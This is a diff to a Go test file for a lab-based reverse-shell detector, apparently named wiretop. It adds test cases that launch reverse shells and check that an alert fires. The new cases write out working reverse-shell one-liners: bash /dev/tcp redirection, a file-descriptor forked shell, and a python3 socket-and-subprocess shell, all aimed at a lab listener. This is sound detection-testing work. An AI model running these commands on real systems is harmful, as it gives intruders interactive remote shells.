@@ -176,6 +176,7 @@ type proclabShellCase struct {
 	subnet int
 	inNS   bool   // wiretop and the shell in the lab's namespace, the attacker on the host side; else the opposite
 	shell  string // the program run as `SHELL -i` with its stdio on the connection
+	script string // instead of shell: a bash -c script that connects to %[1]s port %[2]d and runs a shell on it
 	rules  string // a --rules file's text ("": the defaults)
 	port   int
 }
@@ -232,7 +233,11 @@ func proclabReverseShell(t *testing.T, c proclabShellCase) proclabShellResult {
 	w := startWiretop(t, shellPrefix, args...)
 	w.waitFirst(t, 10*time.Second)
 
-	sh := proclabStart(t, shellPrefix, "bash", "-c", fmt.Sprintf("%s -i >& /dev/tcp/%s/%d 0>&1", c.shell, listenIP, c.port))
+	script := fmt.Sprintf("%s -i >& /dev/tcp/%s/%d 0>&1", c.shell, listenIP, c.port)
+	if c.script != "" {
+		script = fmt.Sprintf(c.script, listenIP, c.port)
+	}
+	sh := proclabStart(t, shellPrefix, "bash", "-c", script)
 	start := time.Now()
 	proclabRun(t, sh)
 	// the process that holds the connection as its stdin, from ss (the reference)
@@ -248,7 +253,8 @@ func proclabReverseShell(t *testing.T, c proclabShellCase) proclabShellResult {
 		return res.pid != 0
 	})
 	if !ok {
-		t.Fatalf("no process holds a connection to %s as fd 0 (nc said %q)", res.remote, fromShell.String())
+		t.Fatalf("no process holds a connection to %s as fd 0 (nc said %q); ss: %v", res.remote, fromShell.String(),
+			proclabSS(t, shellPrefix, "-t"))
 	}
 	t.Logf("shell: pid %d (%s; the command started as pid %d), connection %s -> %s", res.pid, res.comm, sh.Process.Pid, res.local, res.remote)
 	res.key = fmt.Sprintf("reverse_shell/%d/%s", res.pid, res.remote)
@@ -344,6 +350,20 @@ func TestLabReverseShellFires(t *testing.T) {
 		// alerts are judged
 		res := proclabReverseShell(t, proclabShellCase{subnet: 144, inNS: false, shell: "bash", port: 4602})
 		proclabCheckFired(t, res, "bash")
+	})
+	// the shell is a child that gets the connection as its stdio while its parent keeps
+	// it on another fd (the parent has the lower pid)
+	t.Run("forked shell", func(t *testing.T) {
+		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, port: 4605,
+			script: "exec 196<>/dev/tcp/%[1]s/%[2]d; sh <&196 >&196 2>&196"})
+		proclabCheckFired(t, res, "sh")
+	})
+	t.Run("python3 spawns sh", func(t *testing.T) {
+		requireTool(t, "python3")
+		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, port: 4606,
+			script: `python3 -c 'import socket, subprocess; s = socket.create_connection(("%[1]s", %[2]d)); ` +
+				`subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)'`})
+		proclabCheckFired(t, res, "sh")
 	})
 	t.Run("configured program", func(t *testing.T) {
 		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, shell: proclabNotAShell(t), port: 4603,
